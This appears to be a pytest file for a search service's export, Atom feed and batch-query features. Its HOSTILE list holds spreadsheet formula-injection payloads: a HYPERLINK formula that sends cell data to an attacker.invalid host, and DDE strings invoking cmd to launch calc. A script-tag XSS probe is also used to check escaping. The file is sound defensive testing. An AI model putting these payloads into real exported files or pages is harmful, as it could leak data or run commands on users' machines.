"""Export files, Atom feeds and batch lists as pure functions (no engine, no server).

Hostile values are the classic spreadsheet payloads (OWASP "CSV injection") and
HTML/XML markup; names are invented.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import json

import feedparser
import pytest

from search_service.search import DocumentHit, HitStream, PassageHit, SearchRequest
from search_service.search.batch import BatchError, as_phrase, batch_request, decode, parse_batch
from search_service.search.export import (
    BOM, COLUMNS, cap_message, csv_stream, document_path, export_lines, neutralise, record, search_path,
)
from search_service.web.feed import FeedInfo, atom_feed, tag_uri, xml_text

HOSTILE = [
    '=HYPERLINK("http://attacker.invalid/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def hit(doc_id="d1", title="Harbour archive opens", **extra) -> DocumentHit:
    values = dict(
        id=doc_id, title=title, published=dt.date(2020, 5, 17), source="/srv/private/corpus/a.txt",
        source_label="corpus/a.txt", url=None,
        passages=[PassageHit(index=0, start=0, end=20, text="Ada Varga opened it.")],
        entities={"person": ["Ada Varga", "Boris Kettle"], "organisation": [], "place": ["Lake Orrin"]},
        mentioned_years=[1989, 2001],
    )
    values.update(extra)
    return DocumentHit(**values)


def stream(hits, total=None) -> HitStream:
    return HitStream(total=len(hits) if total is None else total, hits=iter(hits))


def read_csv(text: str) -> list[list[str]]:
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[len(BOM):])))


def test_formula_starts_are_neutralised_and_nothing_else():
    for value in HOSTILE:
        assert neutralise(value) == "'" + value
    for value in ("Ada Varga", "2020-05-17", "1989; 2001", "", "a=b", "O'Hara"):
        assert neutralise(value) == value


def test_record_has_every_column_and_the_user_facing_source():
    rec = record(hit(), "http://x/documents/d1")
    assert tuple(rec) == COLUMNS
    assert rec["source"] == "corpus/a.txt"  # never the server path
    assert "/srv/private" not in json.dumps(rec)
    assert rec["person"] == ["Ada Varga", "Boris Kettle"] and rec["mentioned_years"] == [1989, 2001]
    assert rec["published_year"] == 2020 and rec["passage"] == "Ada Varga opened it."
    # A record with a URL shows the URL as its source.
    assert record(hit(url="https://news.invalid/a"), "u")["source"] == "https://news.invalid/a"


def test_csv_export_has_bom_header_joined_lists_and_no_cap_line():
    text = "".join(export_lines(stream([hit("d1"), hit("d2", published=None, mentioned_years=[])]), "csv", 10,
                                document_path))
    rows = read_csv(text)
    assert rows[0] == list(COLUMNS)
    first = dict(zip(COLUMNS, rows[1]))
    assert first["person"] == "Ada Varga; Boris Kettle" and first["mentioned_years"] == "1989; 2001"
    assert first["document_url"] == "/documents/d1"
    second = dict(zip(COLUMNS, rows[2]))
    assert second["published"] == "" and second["published_year"] == "" and second["mentioned_years"] == ""
    assert len(rows) == 3


def test_hostile_titles_and_names_cannot_run_in_a_spreadsheet():
    hits = [hit(f"d{n}", title=value, entities={"person": [value, "Ada Varga"], "organisation": [value],
                                                   "place": []}) for n, value in enumerate(HOSTILE)]
    rows = read_csv("".join(export_lines(stream(hits), "csv", 100, document_path)))
    for row, value in zip(rows[1:], HOSTILE):
        cells = dict(zip(COLUMNS, row))
        assert cells["title"] == "'" + value
        assert cells["person"] == "'" + value + "; Ada Varga"
        assert cells["organisation"] == "'" + value
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # JSON Lines is data, not a spreadsheet: values stay exactly as indexed.
    lines = "".join(export_lines(stream(hits), "jsonl", 100, document_path)).splitlines()
    assert [json.loads(line)["title"] for line in lines] == HOSTILE


def test_cap_is_stated_in_the_last_line_of_both_formats():
    hits = [hit(f"d{n}") for n in range(3)]
    rows = read_csv("".join(export_lines(stream(hits, total=7), "csv", 3, document_path)))
    assert len(rows) == 5 and rows[-1] == [cap_message(7, 3)]
    assert "3" in rows[-1][0] and "7" in rows[-1][0]
    lines = [json.loads(line) for line in
             "".join(export_lines(stream(hits, total=7), "jsonl", 3, document_path)).splitlines()]
    assert [line.get("id") for line in lines[:3]] == ["d0", "d1", "d2"]
    assert lines[-1] == {"truncated": True, "exported": 3, "total": 7, "message": cap_message(7, 3)}


def test_csv_is_written_in_chunks_not_at_once():
    chunks = list(csv_stream(([str(n)] for n in range(1000)), ["n"]))
    assert len(chunks) > 3 and chunks[0] == BOM + "n\r\n"
    assert "".join(chunks).count("\r\n") == 1001


def test_unknown_format_is_refused():
    with pytest.raises(ValueError):
        export_lines(stream([]), "xlsx", 10, document_path)


def test_paths_for_files_written_without_a_server():
    assert document_path("a b/c") == "/documents/a%20b/c"
    assert search_path(SearchRequest.build(q="x", filters={"person": ["Ada Varga"]})) == "/search?q=x&person=Ada+Varga"
    assert search_path(SearchRequest()) == "/search"


# -- Atom --------------------------------------------------------------------------------------
def feed_info(**extra) -> FeedInfo:
    values = dict(title="Article search — “x”", authority="search.example", search_key="q=x",
                  self_url="http://search.example/search.atom?q=x", page_url="http://search.example/search?q=x",
                  now=dt.datetime(2026, 1, 2, 3, 4, 5, tzinfo=dt.timezone.utc))
    values.update(extra)
    return FeedInfo(**values)


def test_atom_feed_parses_with_stable_ids_and_escaped_content():
    nasty = "<script>alert(1)</script> & <b>bold</b> \x0b"
    hits = [
        hit("d/1", title=nasty, published=dt.date(2021, 3, 4),
            passages=[PassageHit(index=0, start=0, end=10, text=nasty + " ]]> end")]),
        hit("d2", published=None),
    ]
    xml = atom_feed(feed_info(), hits, lambda i: f"http://search.example/documents/{i}")
    parsed = feedparser.parse(xml)
    assert not parsed.bozo, parsed.get("bozo_exception")
    assert parsed.version == "atom10"
    assert parsed.feed.title == "Article search — “x”"
    assert parsed.feed.updated == "2021-03-04T00:00:00Z"  # the newest document's date
    first, second = parsed.entries
    assert first.id == tag_uri("search.example", "documents/d/1") == "tag:search.example,2026:documents/d/1"
    assert first.title == "<script>alert(1)</script> & <b>bold</b>"  # text, not markup
    assert first.summary.startswith("<script>alert(1)</script> & <b>bold</b>")
    assert first.link == "http://search.example/documents/d/1"
    assert {t.term for t in first.tags} >= {"Ada Varga", "Lake Orrin"}
    assert second.updated == "2021-03-04T00:00:00Z" and "published" not in second  # undated
    # The same document gives the same id in another search's feed.
    other = feedparser.parse(atom_feed(feed_info(search_key="q=y"), hits[:1], lambda i: i))
    assert other.entries[0].id == first.id and other.feed.id != parsed.feed.id


def test_empty_feed_is_valid_and_updated_now():
    parsed = feedparser.parse(atom_feed(feed_info(), [], lambda i: i))
    assert not parsed.bozo and parsed.entries == [] and parsed.feed.updated == "2026-01-02T03:04:05Z"


def test_xml_text_drops_only_characters_xml_forbids():
    assert xml_text("a\x00b\x0bc\td\ne\ufffff") == "abc\td\nef"


# -- batch lists -------------------------------------------------------------------------------
def test_lines_become_phrase_queries():
    queries, warnings = parse_batch("Ada Varga\n\n  Jiří   Novák \n\"Port\" Selm\n", 10)
    assert [q.text for q in queries] == ["Ada Varga", "Jiří Novák", '"Port" Selm']
    assert [q.line for q in queries] == [1, 3, 4]
    assert [batch_request(q).q for q in queries] == ['"Ada Varga"', '"Jiří Novák"', '"Port" Selm']
    assert warnings == []
    words, _ = parse_batch("Ada Varga\n", 10, phrase=False)
    assert batch_request(words[0]).q == "Ada Varga"
    assert as_phrase("  ") == ""


def test_csv_with_a_query_column_and_filter_columns():
    text = "\ufeffQuery,place,year,not_person,notes,page\nAda Varga,Lake Orrin,2019;2020,Boris Kettle,x,9\n,Port Selm,,,,\n"
    queries, warnings = parse_batch(text, 10)
    request = batch_request(queries[0])
    assert request.q == '"Ada Varga"' and request.selected("place") == ("Lake Orrin",)
    assert request.selected("published_year") == (2019, 2020)
    assert request.excluded("person") == ("Boris Kettle",)
    assert request.page == 1  # a batch row is never a later page
    assert any("page" in w for w in warnings)
    # A row with filters but no query searches everything with those filters.
    assert batch_request(queries[1]).q == "" and batch_request(queries[1]).selected("place") == ("Port Selm",)
    assert [q.line for q in queries] == [2, 3]


def test_too_many_queries_and_undecodable_bytes_are_clear_errors():
    with pytest.raises(BatchError, match="at most 2"):
        parse_batch("a\nb\nc\n", 2)
    with pytest.raises(BatchError, match="UTF-8"):
        decode("Jiří".encode("cp1250"))
    assert decode("\ufeffAda".encode("utf-8")) == "Ada"
